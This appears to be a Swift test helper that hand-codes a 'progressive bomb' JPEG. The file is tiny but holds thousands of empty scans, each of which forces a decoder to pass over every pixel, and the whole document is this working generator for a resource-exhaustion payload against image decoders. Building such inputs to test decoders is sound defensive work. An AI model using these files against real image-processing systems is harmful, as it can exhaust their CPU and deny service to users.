/// A progressive JPEG (ITU-T T.81, annex G) in which nothing is to be seen, coded by hand: every scan costs a decoder
/// a pass over all pixels, and the file some sixty bytes.
enum ProgressiveBomb {
    /// Up to 2,647 scans, each of which the standard allows.
    static func jpeg(side: Int, scans: Int) -> [UInt8] {
        let blocks = ((side + 7) / 8) * ((side + 7) / 8)
        let frame =
            [8] + FileSurgery.bigEndian(side, 2) + FileSurgery.bigEndian(side, 2)
            + [3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0]
        let file =
            [0xFF, 0xD8] + FileSurgery.segment(0xDB, [0] + [UInt8](repeating: 1, count: 64))
            + FileSurgery.segment(0xC2, frame)
            // One code for the means, a difference of nothing; two for runs of empty blocks, 14 and 13 bits long.
            + FileSurgery.segment(0xC4, [0x00, 1] + [UInt8](repeating: 0, count: 15) + [0])
            + FileSurgery.segment(0xC4, [0x10, 1, 1] + [UInt8](repeating: 0, count: 14) + [0xE0, 0xD0])
        let means =
            scan([1, 0, 2, 0, 3, 0], band: 0, previous: 0, bits: 0)
            + [UInt8](repeating: 0, count: blocks * 3 / 8) + [UInt8](repeating: 0x1F, count: 1)
        let empty = runs(of: blocks)
        var waves: [UInt8] = []
        var left = scans - 1
        for bit in stride(from: UInt8(13), through: 0, by: -1) {
            for band in UInt8(1)...63 {
                for component in UInt8(1)...3 where left > 0 {
                    waves += scan([component, 0], band: band, previous: bit == 13 ? 0 : bit + 1, bits: bit)
                    waves += empty
                    left -= 1
                }
            }
        }
        return file + means + waves + [0xFF, 0xD9]
    }

    private static func scan(_ components: [UInt8], band: UInt8, previous: UInt8, bits: UInt8) -> [UInt8] {
        FileSurgery.segment(
            0xDA, [UInt8(components.count / 2)] + components + [band, band, previous << 4 | bits])
    }

    /// Codes for runs of empty blocks, until all blocks are covered.
    private static func runs(of blocks: Int) -> [UInt8] {
        var bits: [UInt8] = []
        for _ in 0..<blocks / 32_767 { bits += [0] + [UInt8](repeating: 1, count: 14) }
        let rest = blocks % 32_767 - 8_192
        bits += [1, 0] + (0..<13).reversed().map { UInt8(rest >> $0 & 1) }
        bits += [UInt8](repeating: 1, count: (8 - bits.count % 8) % 8)
        return stride(from: 0, to: bits.count, by: 8).flatMap { start -> [UInt8] in
            let byte = bits[start..<start + 8].reduce(0) { $0 << 1 | $1 }
            return byte == 0xFF ? [0xFF, 0] : [byte]
        }
    }
}
